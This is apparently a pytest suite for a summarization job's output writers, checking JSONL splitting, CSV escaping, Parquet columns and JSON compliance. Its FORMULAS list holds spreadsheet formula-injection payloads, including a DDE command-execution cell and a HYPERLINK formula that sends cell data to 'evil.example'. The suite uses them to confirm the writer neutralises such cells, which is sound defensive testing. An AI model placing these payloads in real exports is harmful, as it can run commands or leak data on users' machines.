"""Claims about the files that rows become."""

import csv
import json
import random
import re
from pathlib import Path
from typing import Any

import pytest

from job.config.sections import CsvOutputSection
from job.conversations.record import Source
from job.summarization.records import Summary, summary_row
from job.summarization.writers import (
    COLUMNS,
    ROWS_PER_GROUP,
    csv_table,
    json_line,
    json_line_parts,
    json_lines,
    parquet_table,
)
from tests.summarization.conftest import files_below, read_lines

PAGE = Path(__file__).parents[2] / "docs" / "outputs.md"
NASTY = 'He said: "no", then\nleft;\r\n \u2028 =1+1 北京 🙂 \t'


def row(id: int, text: str = "fine", **metadata: Any) -> bytes:
    return json_line(
        summary_row(
            Summary(str(id), text, Source("s3://b/day.jsonl", id), "stop", 10, 2, 0, metadata)
        )
    )


def test_parts_end_after_so_many_records_and_hold_them_in_order(tmp_path):
    with json_line_parts(tmp_path, records_per_part=3) as write:
        for id in range(7):
            write(row(id))
    assert files_below(tmp_path) == ["part-00000.jsonl", "part-00001.jsonl", "part-00002.jsonl"]
    parts = [read_lines(tmp_path / name) for name in files_below(tmp_path)]
    assert [[int(record["id"]) for record in part] for part in parts] == [[0, 1, 2], [3, 4, 5], [6]]


def test_a_part_ends_with_the_record_that_fills_it(tmp_path):
    with json_line_parts(tmp_path, bytes_per_part=400) as write:
        for id in range(4):
            write(row(id, "x" * 300))
    assert [len(read_lines(tmp_path / name)) for name in files_below(tmp_path)] == [1, 1, 1, 1]


def test_a_full_last_part_is_followed_by_no_empty_one(tmp_path):
    with json_line_parts(tmp_path, records_per_part=2) as write:
        for id in range(4):
            write(row(id))
    assert len(files_below(tmp_path)) == 2


def test_no_rows_make_one_empty_part(tmp_path):
    with json_line_parts(tmp_path):
        pass
    assert files_below(tmp_path) == ["part-00000.jsonl"]
    assert read_lines(tmp_path / "part-00000.jsonl") == []


def test_any_text_is_one_json_line(tmp_path):
    path = tmp_path / "a" / "out.jsonl"
    with json_lines(path) as write:
        write(row(1, NASTY, note=NASTY))
        write(row(2))
    lines = path.read_bytes().split(b"\n")
    assert len(lines) == 3
    assert lines[0] == row(1, NASTY, note=NASTY)


def test_csv_gives_back_every_text(tmp_path):
    with csv_table(tmp_path / "out.csv") as write:
        write(row(1, NASTY, shop=3))
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert len(rows) == 1
    assert (rows[0]["summary"], rows[0]["source_line"]) == (NASTY, "1")
    assert json.loads(rows[0]["metadata"]) == {"shop": 3}


def csv_rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as file:
        return list(csv.DictReader(file))


FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1",
    "\tx",
    "\rx",
    "\nx",
    " =1+1",
    "\u00a0=1",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1+1",
    "\uff20SUM(1)",
    "- The parcel is late",
    "-",
    "+49 151 1234",
    "-2+3*cmd",
    "'=1+1",
    "''-1+1",
    "-5%",
]
NO_FORMULAS = [
    "-5",
    "+4915112345678",
    "-1.5e-3",
    "1+1",
    "a=b",
    "'tis late",
    "\u2019=1",
    "",
    "«=»",
    "12,50",
    "-1,000.50",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_begins_with_an_apostrophe(tmp_path, text):
    source = Source(text, 1)
    with csv_table(tmp_path / "out.csv") as write:
        write(json_line(summary_row(Summary(text, text, source, "stop", 10, 2, 0, {text: text}))))
    (read,) = csv_rows(tmp_path / "out.csv")
    assert read["id"] == read["summary"] == read["source_uri"] == f"'{text}"
    assert json.loads(read["metadata"]) == {text: text}
    with csv_table(tmp_path / "out.csv", CsvOutputSection(formulas="keep")) as write:
        write(row(1, text))
    assert csv_rows(tmp_path / "out.csv")[0]["summary"] == text


@pytest.mark.parametrize("text", NO_FORMULAS)
def test_a_cell_that_is_no_formula_is_written_as_it_is(tmp_path, text):
    with csv_table(tmp_path / "out.csv") as write:
        write(row(1, text))
    assert csv_rows(tmp_path / "out.csv")[0]["summary"] == text


def test_an_escaped_cell_is_the_text_again_by_the_rule_of_the_page(tmp_path):
    rng = random.Random(8)
    texts = ["".join(rng.choices("'=+-@\t\n 1a", k=rng.randint(0, 5))) for _ in range(500)]
    with csv_table(tmp_path / "out.csv") as write:
        for text in texts:
            write(row(1, text))
    cells = [read["summary"] for read in csv_rows(tmp_path / "out.csv")]
    (pattern,) = re.findall(r're\.sub\(r"(.+)", r"\\1", cell\)', PAGE.read_text(encoding="utf-8"))
    assert [re.sub(pattern, r"\1", cell) for cell in cells] == texts


@pytest.mark.parametrize("mark", [False, True])
def test_a_byte_order_mark_is_written_where_it_is_asked_for(tmp_path, mark):
    with csv_table(tmp_path / "out.csv", CsvOutputSection(byte_order_mark=mark)) as write:
        write(row(1))
    assert (tmp_path / "out.csv").read_bytes().startswith(b"\xef\xbb\xbf") == mark
    assert next(iter(csv_rows(tmp_path / "out.csv")[0])) == "id"


@pytest.mark.parametrize("count", [0, 1, ROWS_PER_GROUP + 1])
def test_parquet_holds_every_row_with_typed_columns(tmp_path: Path, count: int):
    from pyarrow import parquet

    with parquet_table(tmp_path / "out.parquet") as write:
        for id in range(count):
            write(row(id, NASTY))
    table = parquet.read_table(tmp_path / "out.parquet")
    assert table.num_rows == count
    assert tuple(table.column_names) == COLUMNS
    assert table.schema.field("input_tokens").type == "int64"
    assert table.column("source_line").to_pylist() == list(range(count))


@pytest.mark.parametrize("number", [float("nan"), float("inf"), -float("inf")])
def test_what_is_no_json_is_never_written(number):
    with pytest.raises(ValueError, match="not JSON compliant"):
        json_line({"metadata": {"number": number}})
